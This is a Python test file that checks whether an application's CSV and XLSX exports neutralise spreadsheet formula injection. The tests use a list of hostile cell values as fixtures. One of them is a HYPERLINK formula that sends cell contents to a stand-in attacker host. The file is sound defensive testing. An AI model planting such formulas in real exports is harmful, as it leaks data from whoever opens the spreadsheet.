"""Issue 12, point 14: every CSV and XLSX export neutralises formula injection the same way —
the register export, `verbale plan convert` and the plan editor's export — and XLSX cells are
text cells, so no apostrophe shows in them.
"""

from __future__ import annotations

import csv
import dataclasses
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from app.cli import main as cli
from app.domain.plan import Cell, Column, Item, Plan
from app.services.demo import reference_note
from app.services.plan_io import plan_to_csv, read_plan_bytes, write_plan
from app.services.register import Register
from app.services.register_export import export_register
from app.services.spreadsheet_safety import is_formula_like, neutralise, restore

#: What a spreadsheet would run: each trigger, after spaces, full-width, already marked.
HOSTILE = (
    '=HYPERLINK("http://evil.example/"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\uff1d1+1",
    "\uff0b1",
    "'=1+1",
)
#: A plan's cells hold no carriage return (a control character there is a problem of its own).
PLAN_HOSTILE = tuple(text for text in HOSTILE if "\r" not in text)
HARMLESS = ("Meeting of experts", "1.1", "2023-11-29", "'quoted'", "a = b", "e-mail")


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _assert_csv_safe(cells: list[str], hostile: tuple[str, ...] = HOSTILE) -> None:
    for text in hostile:
        assert neutralise(text) in cells, text
        assert neutralise(text).startswith("'")
    for text in HARMLESS:
        if text in cells or neutralise(text) in cells:
            assert text in cells, text  # harmless text is left as typed


def _assert_xlsx_text(
    sheet_cells: list[object], quote_prefixed: set[str], hostile: tuple[str, ...] = HOSTILE
) -> None:
    for text in hostile:
        assert text in sheet_cells, text  # exactly the text: no apostrophe added
        if is_formula_like(text):
            assert text in quote_prefixed, text  # stays text when edited in Excel


def _plan() -> Plan:
    rows = tuple(Item({"events": Cell({"en": text})}) for text in (*PLAN_HOSTILE, *HARMLESS))
    return Plan(
        languages=("en",),
        columns=(Column("events", {"en": "=Events"}),),
        rows=rows,
        title={"en": "@Plan"},
    )


@pytest.fixture
def register(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Register]:
    monkeypatch.setenv("VERBALE_DATA_DIR", str(tmp_path / "data"))
    opened = Register.open(f"sqlite:///{tmp_path / 'register.sqlite3'}")
    for text in (*HOSTILE, *HARMLESS):
        opened.save_draft(dataclasses.replace(reference_note(), subject=text))
    yield opened
    opened.close()


def test_register_export_csv_marks_every_formula(register: Register, tmp_path: Path) -> None:
    target = tmp_path / "register.csv"
    export_register(register, target)
    subjects = [row[3] for row in _csv_cells(target.read_bytes())[1:]]
    _assert_csv_safe(subjects)


def test_register_export_xlsx_writes_text_cells_without_apostrophes(
    register: Register, tmp_path: Path
) -> None:
    target = tmp_path / "register.xlsx"
    export_register(register, target)
    sheet = load_workbook(target).active
    assert sheet is not None
    subjects = [row[3] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in subjects)
    _assert_xlsx_text(
        [cell.value for cell in subjects],
        {str(cell.value) for cell in subjects if cell.quotePrefix},
    )


def test_plan_convert_marks_csv_and_writes_xlsx_text(tmp_path: Path) -> None:
    source = tmp_path / "plan.csv"
    write_plan(_plan(), source)
    assert cli(["plan", "convert", str(source), str(tmp_path / "out.csv")]) == 0
    assert cli(["plan", "convert", str(source), str(tmp_path / "out.xlsx")]) == 0
    cells = [cell for row in _csv_cells((tmp_path / "out.csv").read_bytes()) for cell in row]
    _assert_csv_safe(cells, PLAN_HOSTILE)
    assert "'=Events" in cells and "'@Plan" in cells
    sheet = load_workbook(tmp_path / "out.xlsx").active
    assert sheet is not None
    values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type == "s" for cell in values)
    _assert_xlsx_text(
        [cell.value for cell in values],
        {str(c.value) for c in values if c.quotePrefix},
        PLAN_HOSTILE,
    )
    # Both read back as the very plan written.
    assert read_plan_bytes((tmp_path / "out.csv").read_bytes(), "out.csv") == _plan()
    assert read_plan_bytes((tmp_path / "out.xlsx").read_bytes(), "out.xlsx") == _plan()


def test_the_plan_editors_export_is_neutralised_too(qtbot, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from app.gui.plan import PlanEditor

    editor = PlanEditor(_plan())
    qtbot.addWidget(editor)
    editor.export_file(tmp_path / "plan.csv")
    editor.export_file(tmp_path / "plan.xlsx")
    cells = [cell for row in _csv_cells((tmp_path / "plan.csv").read_bytes()) for cell in row]
    _assert_csv_safe(cells, PLAN_HOSTILE)
    sheet = load_workbook(tmp_path / "plan.xlsx").active
    assert sheet is not None
    values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    _assert_xlsx_text(
        [cell.value for cell in values],
        {str(c.value) for c in values if c.quotePrefix},
        PLAN_HOSTILE,
    )


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(" '=+-@\t\r\n\uff1d\u3000ab1"), max_size=8))
def test_neutralise_is_safe_and_restore_undoes_it_exactly(text: str) -> None:
    marked = neutralise(text)
    assert restore(marked) == text
    assert not is_formula_like(marked) or marked.startswith("'")
    if not is_formula_like(text.lstrip("'")):
        assert marked == text


def test_a_plan_csv_round_trips_through_the_marks() -> None:
    data = plan_to_csv(_plan())
    assert read_plan_bytes(data, "plan.csv") == _plan()
